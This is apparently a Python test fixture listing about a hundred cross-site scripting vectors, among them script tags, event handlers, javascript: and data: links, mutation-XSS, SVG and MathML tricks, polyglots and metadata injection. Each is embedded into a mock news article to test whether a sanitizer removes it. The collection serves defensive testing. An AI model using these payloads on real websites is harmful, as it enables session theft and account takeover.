# ruff: noqa: E501, a vector reads best on one line
"""Ways to put a script into a page, in the body or in the metadata of an article.

``FIRE`` in a vector is a call that the browser of the tests counts; ``AWAY`` is an address that
nothing may ask for. Own collection, by the classes that sanitizers are known to miss.
"""

from tests.pages import sentences

AWAY = "http://away.test/"
#: In the body of the article.
BODY: dict[str, str] = {
    "script": "<script>FIRE</script>",
    "script in capitals, odd spaces": "<ScRiPt\n>FIRE</sCrIpT\t>",
    "script from elsewhere": "<script src=AWAYs.js></script>",
    "script in a paragraph": "<p>Before <script>FIRE</script> after it.</p>",
    "script, nested tags": "<scr<script>ipt>FIRE</scr</script>ipt><script>FIRE</script>",
    "script, never closed": "<p>Open</p><script>FIRE//<p>",
    "module": "<script type=module>FIRE</script>",
    "image that fails": "<img src=x: onerror=FIRE>",
    "image, quotes left open": '<img src="x:" onerror="FIRE" alt="`>',
    "image, slashes for blanks": "<img/src='x:'/onerror=FIRE/>",
    "image, encoded handler": "<img src=x: onerror=&#102;&#105;&#114;&#101;(NUMBER)>",
    "image, attribute twice": "<img src=x: src=/a.png onerror=FIRE>",
    "handler in alt": "<img src=/a.png alt='\" onload=FIRE x=\"'>",
    "handler in src": "<img src='/a.png\" onload=FIRE x=\"'>",
    "handler in href": "<p><a href='http://site.test/\" onclick=FIRE x=\"'>A link to the report</a></p>",
    "handler of the paragraph": "<p onclick=FIRE onmouseover=FIRE>The mayor read it aloud.</p>",
    "focus by itself": "<p tabindex=0 autofocus onfocus=FIRE>The harbour was closed for days.</p>",
    "animation": "<style>@keyframes a{}</style><p style='animation: a 1s' onanimationstart=FIRE>It moved.</p>",
    "details": "<details open ontoggle=FIRE><summary>More</summary>The rest of it.</details>",
    "media": "<video src=x: onerror=FIRE></video><audio src=x: onerror=FIRE></audio>",
    "source": "<video><source src=x: onerror=FIRE></video>",
    "input": "<input autofocus onfocus=FIRE><button onclick=FIRE>Go</button>",
    "marquee": "<marquee onstart=FIRE>The news of the day</marquee>",
    "body again": "<body onload=FIRE onpageshow=FIRE>",
    "custom element": "<x-y onclick=FIRE contenteditable>Press here for the rest</x-y>",
    "javascript: link": "<p><a href='javascript:FIRE'>Read the report</a></p>",
    "javascript: in capitals": "<p><a href=' JaVaScRiPt:FIRE'>Read the report</a></p>",
    "javascript: with tab and line break": "<p><a href='java\tscr\nipt:FIRE'>Read the report</a></p>",
    "javascript: with controls before it": "<p><a href='&#1;&#14;\x1f javascript:FIRE'>Read it</a></p>",
    "javascript: with a null byte": "<p><a href='java\0script:FIRE'>Read it</a></p>",
    "javascript: in entities": "<p><a href='&#x6A;&#97;vascript&colon;FIRE'>Read it</a></p>",
    "javascript: in entities without end": "<p><a href='&#0000106avascript&#58FIRE'>Read it</a></p>",
    "javascript: with named controls": "<p><a href='java&Tab;script&NewLine;&colon;FIRE'>Read</a></p>",
    "javascript: after an invisible sign": "<p><a href='\ufeff\u200bjavascript:FIRE'>Read it</a></p>",
    "javascript: that looks like a host": "<p><a href='javascript://site.test/%0aFIRE'>Read it</a></p>",
    "javascript: by way of base": "<base href='javascript:/a/'><p><a href='%0aFIRE'>Read it</a></p>",
    "vbscript: and others": "<p><a href='vbscript:FIRE'>One</a> <a href='livescript:FIRE'>two</a></p>",
    "data: document": "<p><a href='data:text/html,<script>FIRE</script>'>Read it</a></p>",
    "data: base64": "<p><a href='data:text/html;base64,PHNjcmlwdD4='>Read it</a></p>",
    "blob: and filesystem:": "<p><a href='blob:http://site.test/1'>One</a> <a href='filesystem:x'>2</a></p>",
    "view-source: and jar:": "<p><a href='view-source:javascript:FIRE'>1</a> <a href='jar:x!/'>2</a></p>",
    "map": "<map name=m><area href=javascript:FIRE shape=default></map><img usemap=#m src=/a.png>",
    "frame": "<iframe src='javascript:parent.FIRE'></iframe>",
    "frame, its document in an attribute": "<iframe srcdoc='<script>parent.FIRE</script>'></iframe>",
    "frame, entities in its document": "<iframe srcdoc='&lt;img src=x: onerror=parent.FIRE&gt;'></iframe>",
    "object": "<object data='javascript:FIRE'></object><object data=AWAYo></object>",
    "embed": "<embed src='data:image/svg+xml,<svg onload=FIRE>'><embed src=AWAYe>",
    "form": "<form action='javascript:FIRE'><button>Send</button><input name=attributes></form>",
    "button with an action": "<form><button formaction='javascript:FIRE'>Send</button></form>",
    "image input": "<input type=image src=x: onerror=FIRE>",
    "SVG": "<svg onload=FIRE></svg>",
    "SVG script": "<svg><script>FIRE</script><script href='data:,FIRE' /></svg>",
    "SVG link": "<svg><a xlink:href='javascript:FIRE'><text y=9>Read it</text></a></svg>",
    "SVG animates a link": "<svg><a><animate attributeName=href values=javascript:FIRE /><text y=9>Go</text></a></svg>",
    "SVG set": "<svg><set attributeName=x onbegin=FIRE></svg>",
    "SVG foreign object": "<svg><foreignObject><img src=x: onerror=FIRE></foreignObject></svg>",
    "SVG use": "<svg><use href='data:image/svg+xml,<svg id=a onload=FIRE/>#a' /></svg>",
    "MathML link": "<math><maction actiontype=statusline xlink:href='javascript:FIRE'>Sum</maction></math>",
    "mutation: noscript": "<noscript><p title='</noscript><img src=x: onerror=FIRE>'></noscript>",
    "mutation: style in SVG": "<svg><style><img src='</style><img src=x: onerror=FIRE>'></style></svg>",
    "mutation: title": "<svg><title><style><img title='</style><img src=x: onerror=FIRE>'></title></svg>",
    "mutation: textarea": "<textarea><p title='</textarea><img src=x: onerror=FIRE>'></textarea>",
    "mutation: math and style": "<math><mtext><table><mglyph><style><!--</style><img title='-->&lt;img"
    " src=x: onerror=FIRE&gt;'></table></math>",
    "mutation: annotation-xml": "<math><annotation-xml encoding='text/html'><style><img src=x:"
    " onerror=FIRE></style></annotation-xml></math>",
    "mutation: form in form": "<form><math><mtext></form><form><mglyph><style></math><img src=x:"
    " onerror=FIRE>",
    "mutation: xmp, noembed, noframes": "".join(
        f"<{tag}><p title='</{tag}><img src=x: onerror=FIRE>'></{tag}>"
        for tag in ("xmp", "noembed", "noframes", "iframe", "plaintext")
    ),
    "mutation: select": "<select><style></select><img src=x: onerror=FIRE></style></select>",
    "mutation: template": "<template><img src=x: onerror=FIRE></template><p>After it.</p>",
    "template with a shadow": "<div><template shadowrootmode=open><img src=x: onerror=FIRE></template></div>",
    "template of scripts": "<div data-bind='html: FIRE'>{{constructor.constructor('FIRE')()}}</div>",
    "mutation: depth": f"{'<div>' * 600}<svg><style><img src=x: onerror=FIRE></style></svg>{'</div>' * 600}",
    "mutation: backticks": "<img src=/a.png alt='``onload=FIRE'>",
    "mutation: cells": "<table><tr><td>One</td><img src=x: onerror=FIRE></tr></table>",
    "CDATA": "<svg><![CDATA[</svg><img src=x: onerror=FIRE>]]></svg><![CDATA[<p>]]>",
    "comment, odd end": "<!--><img src=x: onerror=FIRE>--><!--- --!><img src=x: onerror=FIRE>-->",
    "comment, condition": "<!--[if true]><img src=x: onerror=FIRE><![endif]--><![if 1]><script>FIRE</script>",
    "instruction": "<?xml version=1.0?><?php echo '><img src=x: onerror=FIRE>' ?>",
    "doctype": "<!DOCTYPE x [<!ENTITY f '<script>FIRE</script>'>]><p>&f; and so on.</p>",
    "srcset": "<img src=/a.png srcset='AWAYa 1x, javascript:FIRE 2x' sizes='100vw' onload=FIRE>",
    "lazy picture": "<img src='data:,' data-src='javascript:FIRE' data-original='AWAY\" onerror=FIRE \"'>",
    "style element": "<style>@import 'AWAYc'; p {background: url(AWAYb)}</style><p>Styled text.</p>",
    "style attribute": "<p style='background: url(AWAYb); x: expression(FIRE)'>Styled text.</p>",
    "link element": "<link rel=stylesheet href=AWAYc><link rel=import href=AWAYi onload=FIRE>",
    "base": "<base href=AWAY><script src=s.js></script><p>Text behind it.</p>",
    "refresh": "<meta http-equiv=refresh content='0; url=javascript:FIRE'>",
    "refresh elsewhere": "<meta http-equiv=refresh content='0; url=data:text/html,<script>FIRE</script>'>",
    "policy report": "<meta http-equiv=Content-Security-Policy content='img-src none; report-uri AWAYr'>",
    "charset": "<meta charset=utf-7><p>+ADw-script+AD4-FIRE+ADw-/script+AD4-</p>",
    "unclosed tag at the end": "<p>The last words. <img src=x: onerror=FIRE ",
    "unclosed attribute": "<p title='x><img src=x: onerror=FIRE>'><img title=\"</p><img src=x: onerror=FIRE>",
    "null bytes": "<\0script>FIRE</script><scr\0ipt>FIRE</script><img src=x: on\0error=FIRE onerror\0=FIRE>",
    "half-width signs": "<p>\uff1cscript\uff1eFIRE\uff1c/script\uff1e and <img src=x: \uff4fnerror=FIRE></p>",
    "text that is markup": "<p>&lt;script&gt;FIRE&lt;/script&gt; &lt;img src=x: onerror=FIRE&gt;</p>",
    "text encoded twice": "<p>&amp;lt;img src=x: onerror=FIRE&amp;gt; is how it is written.</p>",
    "text in code": "<pre><code>&lt;img src=x: onerror=FIRE&gt;</code></pre><p>So it is written.</p>",
    "text, fence of code": "<pre>```\n&lt;img src=x: onerror=FIRE&gt;\n```</pre><p><code>``</code> &lt;b&gt;</p>",
    "text, link of Markdown": "<p>[Read it](javascript:FIRE) ![x](x:&quot;onerror=FIRE) &lt;javascript:FIRE&gt;</p>",
    "link with signs of Markdown": "<p><a href='http://site.test/a)<img/src=x: onerror=FIRE>'>A link](javascript:FIRE)</a></p>",
    "code in a cell": "<table><tr><td><code>|&lt;img src=x: onerror=FIRE&gt;|</code></td><td>b</td></tr></table>",
    "code with a line break": "<p><code>a<br>&lt;script&gt;FIRE&lt;/script&gt;<br>b</code> is code.</p>",
    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */FIRE )//%0D%0A//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=FIRE//>\\x3e",
    "polyglot in an attribute": "<p title='\"><svg/onload=FIRE>&quot;&gt;'>\"'><svg onload=FIRE>'\"</p>",
    "cookie": "<img src=x: onerror='document.cookie; FIRE'>",
}  # fmt: skip
_IMAGE = "&lt;/title&gt;&lt;/h1&gt;\"'&gt;&lt;img src=x: onerror=FIRE&gt;"
#: In what a page says of itself: the head.
HEAD: dict[str, str] = {
    "title": f"<title>Ferries {_IMAGE}</title>",
    "title, real markup": "<title>Ferries</title><script>FIRE</script>",
    "author": f'<meta name=author content="Ann Vos {_IMAGE}">',
    "keywords": f'<meta name=keywords content="ferry, {_IMAGE}, harbour">',
    "description": f'<meta name=description content="{_IMAGE}">',
    "language": "<meta http-equiv=content-language content='en\" onload=FIRE x=\"'>",
    "picture": "<meta property=og:image content='javascript:FIRE'>",
    "picture, quotes": "<meta property=og:image content='http://site.test/a\" onload=FIRE x=\"'>",
    "canonical address": "<link rel=canonical href='javascript:FIRE'>",
    "JSON-LD": '<script type="application/ld+json">{"@type": "NewsArticle", "headline": "Ferries'
    ' <img src=x: onerror=FIRE>", "author": {"name": "<svg onload=FIRE>"}, "keywords":'
    ' "<script>FIRE<\\/script>", "image": "javascript:FIRE", "url": "javascript:FIRE"}</script>',
    "JSON-LD, escapes": '<script type="application/ld+json">{"@type": "NewsArticle", "headline":'
    ' "\\u003cimg src=x: onerror=FIRE\\u003e", "articleBody": "\\u003cscript\\u003eFIRE"}</script>',
}  # fmt: skip
VECTORS = {**BODY, **{f"head: {name}": vector for name, vector in HEAD.items()}}


def hostile_page(number: int, name: str) -> str:
    """Return an article with the vector *name*, which calls ``fire(number)``."""
    vector = VECTORS[name].replace("FIRE", f"fire({number})").replace("NUMBER", str(number))
    vector = vector.replace("AWAY", AWAY)
    lines = sentences(number, 18)
    first, second = (
        "".join(f"<p>{' '.join(lines[at : at + 3])}</p>" for at in places)
        for places in (range(0, 9, 3), range(9, 18, 3))
    )
    in_head, in_body = (vector, "") if name.startswith("head: ") else ("", vector)
    title = "" if "<title>" in in_head else "<title>Ferries of the day - Ostwick Post</title>"
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">{title}{in_head}</head><body>'
        f'<div class="top"><a href="/">Home</a> <a href="/news/">News</a></div><article>'
        f"<h1>Ferries of the day</h1>{first}{in_body}{second}</article>"
        f'<div class="foot"><p>All rights reserved.</p></div></body></html>'
    )
